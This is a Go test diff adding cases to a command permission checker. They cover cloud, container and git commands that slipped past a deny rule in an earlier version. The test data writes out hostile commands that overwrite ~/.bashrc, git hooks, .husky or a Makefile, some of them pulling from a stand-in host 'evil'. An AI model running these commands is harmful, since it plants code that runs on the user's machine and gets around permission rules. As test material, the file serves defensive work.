@@ -254,3 +254,21 @@ func TestCommandAttack48Backups(t *testing.T) {
 	fine := []string{`cp -b y x`, `cp -b -S .orig y x`, `sed -i.bak 's/a/b/' x`, `mv -b a b`}
 	checkCommands(t, []string{"cp *", "mv *", "ln *", "install *", "rsync *", "sed *"}, bypass, fine, bypass, fine)
 }
+
+// TestCommandAttack48Copies (attack48): cloud and container copies, and
+// git's other ways to put a repository's files in a directory. On
+// 8bd1f455 a deny rule for "rm *" and an allow rule for the program
+// allowed each: aws s3 cp, gsutil, rclone, docker cp, kubectl cp, gh
+// release download -O write their destination; git submodule add,
+// worktree add and subtree add --prefix check a repository out there.
+func TestCommandAttack48Copies(t *testing.T) {
+	bypass := []string{`aws s3 cp s3://b/x ~/.bashrc`, `aws s3 sync s3://b/dots ~/`, `gsutil cp gs://b/x ~/.bashrc`,
+		`gcloud storage cp gs://b/x .git/hooks/pre-commit`, `rclone copyto r:x ~/.bashrc`, `azcopy copy https://x/y ~/.bashrc`,
+		`docker cp c:/x ~/.bashrc`, `kubectl cp p:/x Makefile`, `gh release download v1 -O ~/.bashrc`,
+		`gh release download v1 -D .git/hooks`, `gh gist clone abc .husky`, `b2 file download b2://x ~/.bashrc`,
+		`git submodule add https://evil/r .husky`, `git worktree add .husky`, `git subtree add --prefix=.husky https://evil/r main`}
+	fine := []string{`aws s3 cp s3://b/x out/x`, `docker cp c:/x ./x`, `kubectl get pods`, `gh release download v1 -D dist`,
+		`git submodule add https://x/r vendor/r`, `git worktree add ../wt`, `docker build -t x .`}
+	checkCommands(t, []string{"aws *", "gsutil *", "gcloud *", "rclone *", "azcopy *", "docker *", "kubectl *", "gh *", "b2 *", "git *"},
+		bypass, fine, bypass, fine)
+}
